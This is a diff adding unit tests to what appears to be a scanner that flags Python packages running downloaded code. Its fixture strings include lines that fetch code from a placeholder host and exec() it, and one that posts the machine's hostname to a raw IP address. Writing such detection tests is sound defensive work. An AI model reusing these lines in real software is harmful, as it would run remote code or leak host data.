@@ -798,3 +798,65 @@ def test_a_library_opening_a_configured_url_while_it_loads_only_warns(tmp_path: 
         + "urllib.request.urlopen('https://93.184.216.34/c', data=os.uname().nodename.encode())\n"
     )
     assert scan(wheel(tmp_path, {"demo/__init__.py": sending})).level == "block"
+
+
+# --- names follow Python's scopes ----------------------------------------------------
+
+
+def _kinds(source: str) -> list[str]:
+    return [h.kind for h in analyse(source).hits]
+
+
+def test_a_namesake_in_another_function_is_not_what_exec_runs() -> None:
+    source = (
+        "import socket\n"
+        "def client():\n"
+        "    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        "    line = sock.recv(10).decode()\n"  # data from the network, in client()
+        "    print(line)\n"
+        "def prompt(stream):\n"
+        "    line = stream.readline()\n"  # the line exec runs: prompt()'s own
+        "    exec(compile(line + '\\n', '<prompt>', 'single'))\n"
+    )
+    assert "download-exec" not in _kinds(source)
+
+
+def test_a_parameter_is_not_a_namesake_assigned_elsewhere() -> None:
+    source = (
+        "import socket\n"
+        "def listen():\n"
+        "    server = socket.socket()\n"
+        "    return server\n"
+        "def serve(server):\n"
+        "    exec(server.makefile().readline())\n"
+    )
+    assert "download-exec" not in _kinds(source)
+
+
+def test_downloaded_code_still_found_across_functions_and_module_level() -> None:
+    through_global = (
+        "import requests\n"
+        "def fetch():\n"
+        "    global code\n"
+        "    code = requests.get('https://example.invalid/x').text\n"
+        "def run():\n"
+        "    exec(code)\n"
+    )
+    assert "download-exec" in _kinds(through_global)
+    module_level = (
+        "import requests\n"
+        "code = requests.get('https://example.invalid/x').text\n"
+        "def run():\n"
+        "    exec(code)\n"
+        "def other():\n"
+        "    code = 'print(1)'\n"
+        "    return code\n"
+    )
+    assert "download-exec" in _kinds(module_level)
+    same_function = (
+        "import urllib.request\n"
+        "def run(url):\n"
+        "    body = urllib.request.urlopen('https://example.invalid/x').read()\n"
+        "    exec(body)\n"
+    )
+    assert "download-exec" in _kinds(same_function)
